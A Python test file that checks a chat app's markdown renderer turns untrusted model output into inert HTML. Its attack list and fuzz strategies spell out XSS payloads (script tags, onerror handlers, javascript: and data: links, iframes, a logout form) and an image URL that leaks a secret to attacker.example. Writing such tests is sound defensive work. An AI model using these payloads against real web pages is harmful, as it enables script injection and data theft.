"""Markdown rendering of untrusted model output: what shows, and what can never run."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.conversations.rendering import (
    CACHED_TEXT_CHARS,
    pygments_css,
    render_markdown,
    render_plain,
)

# The contract, written out here rather than imported, so that widening the allowlist
# in the module is a visible change to this file too.
ALLOWED = {
    "p": set(),
    "br": set(),
    "hr": set(),
    **{f"h{level}": set() for level in range(1, 7)},
    "strong": set(),
    "em": set(),
    "del": set(),
    "s": set(),
    "blockquote": set(),
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "table": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {"align"},
    "td": {"align"},
    "a": {"href", "rel", "class", "target"},
    "span": {"class"},
    "div": {"class"},
    "pre": {"class"},
    "code": {"class"},
    "button": {"class", "type", "data-copy-code"},
}
LINK_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(output: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _TagCollector()
    collector.feed(output)
    collector.close()
    return collector.tags


def _assert_inert(output: str) -> None:
    """Every tag and attribute is allowlisted and every link goes somewhere harmless."""
    assert "<script" not in output.lower()
    for tag, attrs in _tags(output):
        assert tag in ALLOWED, f"<{tag}> is not allowed in {output!r}"
        extra = set(attrs) - ALLOWED[tag]
        assert not extra, f"<{tag}> has {extra} in {output!r}"
        if tag == "a":
            assert attrs["rel"] == LINK_REL
            assert attrs["target"] == "_blank"
            if "href" in attrs:
                href = (attrs["href"] or "").strip()
                assert urlsplit(href).scheme.lower() in LINK_SCHEMES, href


ATTACKS = [
    # (what the model wrote, text that must not appear in the output)
    ("<img src=x onerror=alert(1)>", "<img"),
    ("<script>alert(1)</script>", "<script"),
    ("[x](javascript:alert(1))", 'href="javascript'),
    ("[x](JAVASCRIPT:alert(1))", 'href="javascript'),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", 'href="data'),
    ("![x](data:image/png;base64,iVBORw0KGgo=)", "<img"),
    ("![x](https://attacker.example/p.png?q=secret)", "<img"),
    ('<div hx-get="/" hx-trigger="load">', "<div hx"),
    ('<a href="https://x" onclick="steal()">x</a>', "<a "),
    ('```"><script>\nalert(1)\n```', "<script"),
    ('<iframe src="https://attacker.example"></iframe>', "<iframe"),
    ("<style>body { display: none }</style>", "<style"),
    ('<form action="/logout"><input name="x"></form>', "<form"),
    ("[x](vbscript:msgbox(1))", 'href="vbscript'),
    ('[x](https://ok.example "\\" onmouseover=\\"alert(1)")', "onmouseover"),
    ("[x](</chat/delete>)", 'href="/'),
]


@pytest.mark.parametrize(("markdown", "forbidden"), ATTACKS)
def test_it_renders_attacks_inert(markdown: str, forbidden: str) -> None:
    output = render_markdown(markdown)
    assert forbidden not in output.lower()
    _assert_inert(output)


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>\n"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
        ('<div hx-get="/" hx-trigger="load">', '<p>&lt;div hx-get="/" hx-trigger="load"&gt;</p>\n'),
    ],
)
def test_it_shows_raw_html_as_text(markdown: str, expected: str) -> None:
    assert render_markdown(markdown) == expected


def test_it_turns_a_remote_image_into_a_link() -> None:
    output = render_markdown("![chart](https://attacker.example/p.png?q=secret)")
    assert output == (
        '<p><a href="https://attacker.example/p.png?q=secret" class="image-link" '
        'target="_blank" rel="noopener noreferrer nofollow">\N{FRAME WITH PICTURE} chart</a></p>\n'
    )


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("![](ftp://example.com/p.png)", "<p>image</p>\n"),
        ("![a *chart*](/local.png)", "<p>a chart</p>\n"),
    ],
)
def test_it_shows_only_the_alt_text_of_other_images(markdown: str, expected: str) -> None:
    assert render_markdown(markdown) == expected


def test_it_escapes_an_untrusted_fence_language() -> None:
    output = render_markdown('```"><script>\nalert(1)\n```')
    assert '<span class="code-lang">"&gt;&lt;script&gt;</span>' in output
    assert "<code>alert(1)\n</code>" in output


POSITIVE = [
    ("# Title", "<h1>Title</h1>"),
    ("###### Small", "<h6>Small</h6>"),
    ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    ("3. three\n4. four", '<ol start="3">'),
    ("*em* **strong** ~~gone~~", "<em>em</em> <strong>strong</strong> <s>gone</s>"),
    ("use `a < b`", "<code>a &lt; b</code>"),
    ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
    ("a\n\n---\n\nb", "<hr>"),
    ("| a | b |\n|:--|--:|\n| 1 | 2 |", '<th align="left">a</th>\n<th align="right">b</th>'),
    ("| a | b |\n|:--|--:|\n| 1 | 2 |", '<td align="left">1</td>\n<td align="right">2</td>'),
    (
        "[docs](https://example.com/docs)",
        '<a href="https://example.com/docs" target="_blank" '
        'rel="noopener noreferrer nofollow">docs</a>',
    ),
    (
        "[mail](mailto:alice@example.com)",
        '<a href="mailto:alice@example.com" target="_blank" '
        'rel="noopener noreferrer nofollow">mail</a>',
    ),
    ("```python\nimport os\n```", '<span class="kn">import</span>'),
    ("```python\nimport os\n```", '<span class="code-lang">python</span>'),
    ("```python\nimport os\n```", '<pre class="highlight"><code>'),
    ("```\nplain <b>\n```", '<pre class="highlight"><code>plain &lt;b&gt;\n</code></pre>'),
    ("```nosuchlanguage\nx = 1\n```", "<code>x = 1\n</code>"),
    ("    indented", "<pre><code>indented\n</code></pre>"),
]


@pytest.mark.parametrize(("markdown", "expected"), POSITIVE)
def test_it_renders_markdown(markdown: str, expected: str) -> None:
    output = render_markdown(markdown)
    assert expected in output
    _assert_inert(output)


def test_it_wraps_code_with_a_copy_button() -> None:
    output = render_markdown("```js\nlet a = 1;\n```")
    assert output.startswith(
        '<div class="code-block"><div class="code-toolbar">'
        '<span class="code-lang">js</span>'
        '<button type="button" class="copy-button" data-copy-code="">Copy</button></div>'
    )
    assert output.endswith("</code></pre></div>\n")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a < b > c & d", "a &lt; b &gt; c &amp; d"),
        ("\"double\" 'single'", "&quot;double&quot; &#x27;single&#x27;"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("line one\nline two\n", "line one\nline two\n"),
        ("**not markdown**", "**not markdown**"),
    ],
)
def test_it_escapes_plain_text(text: str, expected: str) -> None:
    assert render_plain(text) == expected


def test_it_scopes_pygments_css_to_highlight_blocks() -> None:
    css = pygments_css()
    light, dark = css.split("@media (prefers-color-scheme: dark) {")
    assert ".highlight .k {" in light
    assert ".highlight .k {" in dark
    rules = [line.strip() for line in css.splitlines() if "{" in line and "@media" not in line]
    assert all(rule.startswith(".highlight") for rule in rules)


def test_the_static_pygments_css_is_current() -> None:
    path = Path(__file__).resolve().parents[2] / "static" / "css" / "pygments.css"
    assert path.read_text() == pygments_css(), (
        "regenerate it from chat.conversations.rendering.pygments_css()"
    )


# Loose pieces find odd interactions; the built constructs make sure links, images,
# fences and tables actually occur often enough to be exercised.
MARKDOWN_PIECES = st.sampled_from(
    [
        "[", "]", "(", ")", "![", "](", "<", ">", "`", "```", "~~~", "\n", "\n\n", " ",
        "*", "_", "~~", "#", "> ", "- ", "1. ", "|", "|---|", ":--", "\\", "&", "&#106;",
        '"', "'", "=", "javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,",
        "https://example.com/", "mailto:", "//evil.example", "onerror=", "onclick=",
        "<script>", "<img src=x ", "<a href=", "<div hx-get=/ ", "style=", "<iframe",
        "python", "html", '"><script>',
    ]
)  # fmt: skip
URLS = st.one_of(
    st.sampled_from(
        [
            "https://example.com/p.png", "http://example.com/a?b=c", "mailto:alice@example.com",
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)",
            "<java\tscript:alert(1)>", "vbscript:msgbox(1)", "data:text/html,<script>",
            "data:image/png;base64,iVBORw0KGgo=", "//evil.example/x", "/chat/delete", "#top",
            "file:///etc/passwd", 'https://x.example/"onerror="alert(1)',
        ]
    ),
    st.text(max_size=12),
)  # fmt: skip
SHORT_TEXT = st.text(max_size=8)
CONSTRUCTS = st.one_of(
    st.builds("[{}]({})".format, SHORT_TEXT, URLS),
    st.builds("![{}]({})".format, SHORT_TEXT, URLS),
    st.builds('[{}]({} "{}")'.format, SHORT_TEXT, URLS, SHORT_TEXT),
    st.builds("<{}>".format, URLS),
    st.builds("\n```{}\n{}\n```\n".format, st.one_of(MARKDOWN_PIECES, SHORT_TEXT), SHORT_TEXT),
    st.builds("\n| {} | b |\n|:--|--:|\n| {} | 2 |\n".format, SHORT_TEXT, SHORT_TEXT),
)
MARKDOWN = st.lists(st.one_of(MARKDOWN_PIECES, CONSTRUCTS, SHORT_TEXT), max_size=30).map("".join)


@given(MARKDOWN)
def test_any_text_renders_inert(text: str) -> None:
    _assert_inert(render_markdown(text))


@pytest.mark.parametrize(
    "markdown",
    [
        "[docs](https://example.com/docs)",
        "<https://example.com/auto>",
        "![chart](https://example.com/c.png)",
    ],
)
def test_a_link_in_an_answer_opens_a_new_tab_without_opener_or_referrer(markdown: str) -> None:
    output = render_markdown(markdown)
    assert ' target="_blank" rel="noopener noreferrer nofollow">' in output
    assert output.count("<a ") == 1


@pytest.mark.parametrize(
    "size", [CACHED_TEXT_CHARS - 40, CACHED_TEXT_CHARS + 40], ids=["cached", "too long to cache"]
)
def test_a_text_renders_the_same_every_time_cached_or_not(size: int) -> None:
    attack = "<script>alert(1)</script> **bold** "
    text = (attack * (size // len(attack) + 1))[:size]
    first, again = render_markdown(text), render_markdown(text)
    assert first == again
    assert "<strong>bold</strong>" in first and "<script>" not in first
